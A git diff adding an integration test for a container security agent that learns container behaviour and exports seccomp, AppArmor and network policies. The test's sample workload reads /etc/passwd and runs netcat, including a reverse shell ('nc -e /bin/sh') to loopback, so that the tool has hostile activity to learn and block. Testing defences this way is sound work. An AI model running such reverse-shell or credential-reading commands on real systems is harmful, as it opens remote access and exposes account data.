@@ -7,7 +7,7 @@ import { after, before, describe, test } from "node:test";
 import { type Agent, bulkhead, startAgent } from "./lib/bulkhead.ts";
 import { type Dockerd, startDockerd } from "./lib/dockerd.ts";
 import type { Event } from "./lib/events.ts";
-import { Cleanup, needs, program, top } from "./lib/proc.ts";
+import { Cleanup, needs, program, run, top, until } from "./lib/proc.ts";
 
 const cleanup = new Cleanup();
 const skip = needs("dockerd", "docker", "bulkhead-agent");
@@ -141,4 +141,49 @@ test("the shipped rules have no mistakes and nothing in them is not here", { ski
     assert.ok(rule.mitre.length > 0, `${rule.name}: MITRE ids`);
     assert.ok(rule.advice && rule.false_alarms && rule.description, rule.name);
   }
+});
+
+/** What was learned, in the words of others, taken by these others. */
+test("a learned profile, exported: seccomp by the engine itself, AppArmor by its parser, a policy by our own check", { skip }, async (t) => {
+  await agent.stop(); // one agent an engine
+  const learning = await startAgent(cleanup, {
+    dockerd: d, args: ["--learn-starts", "1", "--learn-time", "1s"],
+    policies: { "learn.yaml": 'kind: ContainerPolicy\nname: learn\nmode: learn\nselect: {images: ["*"]}\nprocess: {drift: alert}\n' },
+  });
+  const script = "cat /etc/passwd; nc -w 1 127.0.0.1 4321; nc -e /bin/sh 127.0.0.1 4444; head -c 1 /etc/passwd";
+  for (const name of ["one", "two"]) await d.ok("run", "--name", name, "work:1", "sh", "-c", `${script}; true`);
+  const out = (format: string) => bulkhead(["profile", "export", "work:1", "--state", learning.state, "--format", format, "--mode", "enforce"]);
+  const profile = await until("the profile", async () => {
+    const r = await bulkhead(["profile", "show", "work:1", "--state", learning.state, "--json"]);
+    const p = r.code === 0 ? JSON.parse(r.stdout) : undefined;
+    return p?.starts >= 2 && p.peers.length ? p : undefined;
+  });
+  assert.deepEqual(profile.peers.map((p: Event) => `${p.direction} ${p.address}:${p.port}`).filter((p: string) => p.endsWith(":4321")), ["egress 127.0.0.1:4321"]);
+  assert.ok(profile.executables.some((x: Event) => x.path === "/bin/busybox"));
+
+  const policy = join(learning.dir, "policy.yaml");
+  writeFileSync(policy, (await out("policy")).stdout);
+  const checked = await bulkhead(["policy", "check", policy]);
+  assert.equal(checked.code, 0, checked.stderr);
+
+  const seccomp = join(learning.dir, "seccomp.json");
+  writeFileSync(seccomp, (await out("seccomp")).stdout);
+  const bare = ["run", "--rm", "--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined"];
+  const mount = ["work:1", "mount", "-t", "tmpfs", "none", "/tmp"];
+  const free = await d.docker(...bare, "--security-opt", "seccomp=unconfined", ...mount);
+  assert.equal(free.code, 0, free.stderr);
+  const held = await d.docker(...bare, "--security-opt", `seccomp=${seccomp}`, ...mount);
+  assert.notEqual(held.code, 0);
+  assert.match(held.stderr, /denied|not permitted/);
+  await d.ok("run", "--rm", "--security-opt", `seccomp=${seccomp}`, "work:1", "sh", "-c", "cat /etc/passwd && wget -q -O /dev/null http://127.0.0.1:1 || true");
+
+  const net = (await out("networkpolicy")).stdout;
+  assert.match(net, /kind: NetworkPolicy/);
+  assert.doesNotMatch(net, /127\.0\.0\.1/, "a pod's own loopback is no peer");
+  const apparmor = join(learning.dir, "apparmor");
+  writeFileSync(apparmor, (await out("apparmor")).stdout);
+  const why = needs("apparmor_parser");
+  if (why) return t.diagnostic(`skipped: ${why}`);
+  const parsed = await run("apparmor_parser", ["-Q", "-K", apparmor]);
+  assert.equal(parsed.code, 0, parsed.stderr);
 });
